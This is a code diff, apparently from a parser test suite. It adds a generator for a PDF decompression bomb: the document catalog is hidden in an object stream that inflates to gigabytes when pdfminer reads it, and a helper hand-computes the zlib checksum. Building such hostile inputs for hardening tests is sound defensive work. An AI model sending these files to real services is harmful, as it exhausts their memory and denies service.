@@ -205,6 +205,46 @@ def object_stream_bomb(gigabytes: int = 2) -> bytes:
             + b"%%EOF\n")
 
 
+def catalog_in_object_stream_bomb(megabytes: int = 2048) -> bytes:
+    """A valid cross-reference stream whose /Root lives in an object stream that inflates to
+    gigabytes: pdfminer opens it to read the catalog while the document is being constructed."""
+    catalog = b"<< /Type /Catalog /Pages 2 0 R >>"
+    head = b"1 0 "
+    body = head + catalog + b"\n"
+    inner = _zlib_with_zeros(body, megabytes)
+    pdf = _invoice_skeleton()
+    del pdf.objects[1]
+    pdf.stream(inner, f"/Type /ObjStm /N 1 /First {len(head)} /Filter /FlateDecode", 6)
+    out = io.BytesIO()
+    out.write(b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n")
+    offsets = {}
+    for num in sorted(pdf.objects):
+        offsets[num] = out.tell()
+        out.write(f"{num} 0 obj\n".encode() + pdf.objects[num] + b"\nendobj\n")
+    xref_at = out.tell()
+    rows = [b"\x00" + bytes(4) + b"\xff\xff", b"\x02" + (6).to_bytes(4, "big") + bytes(2)]
+    rows += [b"\x01" + offsets[n].to_bytes(4, "big") + bytes(2) for n in range(2, 7)]
+    rows.append(b"\x01" + xref_at.to_bytes(4, "big") + bytes(2))
+    table = b"".join(rows)
+    out.write(f"7 0 obj\n<< /Type /XRef /Size 8 /W [1 4 2] /Root 1 0 R /Length {len(table)} >>"
+              "\nstream\n".encode() + table + b"\nendstream\nendobj\n")
+    out.write(f"startxref\n{xref_at}\n%%EOF\n".encode())
+    return out.getvalue()
+
+
+def _zlib_with_zeros(prefix: bytes, megabytes: int) -> bytes:
+    """zlib of `prefix` followed by `megabytes` MiB of zeros, built like zlib_zeros."""
+    c = zlib.compressobj(9)
+    start = c.compress(prefix) + c.flush(zlib.Z_FULL_FLUSH)
+    mib = bytes(1 << 20)
+    repeat = c.compress(mib) + c.flush(zlib.Z_FULL_FLUSH)
+    # Zeros leave Adler-32's first sum alone and add it to the second once per byte.
+    adler = zlib.adler32(prefix)
+    a, b = adler & 0xFFFF, adler >> 16
+    b = (b + a * (megabytes << 20)) % 65521
+    return start + repeat * megabytes + b"\x03\x00" + ((b << 16) | a).to_bytes(4, "big")
+
+
 # -- hostile structure -------------------------------------------------------------------------
 
 def kids_loop() -> bytes:
